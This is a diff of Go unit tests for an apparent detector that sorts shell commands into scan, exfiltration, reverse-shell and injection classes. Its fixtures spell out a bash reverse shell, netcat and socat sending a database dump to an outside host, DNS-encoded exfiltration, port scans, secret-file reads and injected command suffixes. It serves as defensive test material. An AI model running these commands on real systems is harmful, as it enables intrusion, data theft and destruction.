@@ -42,6 +42,26 @@ func TestClassify(t *testing.T) {
 		{"shred -u -n 1 /var/www/html/data/customers.csv", classExfilImpact},
 		{"rm -rf /var/www/html", classExfilImpact},
 		{"openssl enc -aes-256-cbc -in db.sql -out db.enc", classExfilImpact},
+		// port scans: discovery before lateral movement (T1046)
+		{"nmap -sT -p 1-1024 10.0.0.0/24", classScan},
+		{"masscan 10.0.0.0/8 -p80,443", classScan},
+		{"nc -zv 10.0.0.5 1-1000", classScan},
+		{"/usr/bin/ncat -w1 -z 192.168.1.1 22", classScan},
+		{`for port in $(seq 1 1024); do timeout 1 bash -c "echo >/dev/tcp/10.0.0.2/$port" && echo $port; done`, classScan},
+		{"bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", classChannel}, // a fixed port: a reverse shell
+		// a relay told to send and quit, encoded DNS labels: data out
+		{"nc -q 1 203.0.113.7 9000", classExfilImpact},
+		{"nc -N 203.0.113.7 9000", classExfilImpact},
+		{"ncat --send-only 203.0.113.7 443", classExfilImpact},
+		{"socat -u FILE:/var/backups/db.sql TCP:203.0.113.7:9000", classExfilImpact},
+		{"nc -nv 10.0.0.1 4444", classNone}, // -n (no DNS), not -N
+		{"nslookup 4a6f686e2c446f652c35353531323334.x.example.net 203.0.113.53", classExfilImpact},
+		{"dig +short MZXW6YTBOI2DGNZVGQ2DIMZUGQ4TSNBUGU4DKNRXHA4DIMZQ.t.example.org", classExfilImpact},
+		{"dig +short example.com", classNone},
+		{"dig _acme-challenge.shop.example.com TXT", classNone},
+		// files named for secrets
+		{"cat /srv/app/.env", classSuspicious},
+		{"cat config/secrets.yml", classSuspicious},
 	}
 	for _, tt := range tests {
 		if got := classify(tt.cmd); got != tt.want {
@@ -94,5 +114,53 @@ func TestPlace(t *testing.T) {
 				t.Error("no reason given")
 			}
 		})
+	}
+}
+
+// TestInjectedByShape: an injection is the application's own command with
+// more appended after a separator, compared by shape: the request's
+// numbers differ from one call to the next.
+func TestInjectedByShape(t *testing.T) {
+	srv := &parser.Process{Exe: "/usr/bin/node", Comm: "node"}
+	tests := []struct {
+		cmd  string
+		rest string
+		inj  bool
+	}{
+		{"/opt/bin/render 17 a4", "", false},
+		{"/opt/bin/render 17 a4", "", false},
+		{"/opt/bin/render 2024 a4", "", false},
+		{"/opt/bin/render 18 a4;printf ok-$((3*3))", "printf ok-$((0*0))", true},
+		{"/opt/bin/render 19 a4 | id", "id", true},
+		{"/opt/bin/render 19 a4x", "", false},
+		{"/opt/bin/render 20 letter&&sleep 3", "sleep 0", true}, // a word parameter: same program, same words
+		{"/opt/bin/render 20 letter extra", "", false},
+	}
+	s := newState()
+	for _, tt := range tests {
+		rest, inj := s.injected(srv, tt.cmd)
+		if inj != tt.inj || rest != tt.rest {
+			t.Errorf("injected(%q) = %q, %v; want %q, %v", tt.cmd, rest, inj, tt.rest, tt.inj)
+		}
+	}
+}
+
+func TestUnbalancedQuote(t *testing.T) {
+	tests := []struct {
+		cmd  string
+		want bool
+	}{
+		{"/opt/bin/render 17 a4'", true},
+		{`/opt/bin/render 17 "a4`, true},
+		{"/opt/bin/render 17 'a4'", false},
+		{`convert "in file.png" -resize 50% 'out.png'`, false},
+		{`echo it\'s`, false},
+		{`echo "say \"hi\""`, false},
+		{`echo "it's"`, false},
+	}
+	for _, tt := range tests {
+		if got := unbalancedQuote(tt.cmd); got != tt.want {
+			t.Errorf("unbalancedQuote(%q) = %v, want %v", tt.cmd, got, tt.want)
+		}
 	}
 }
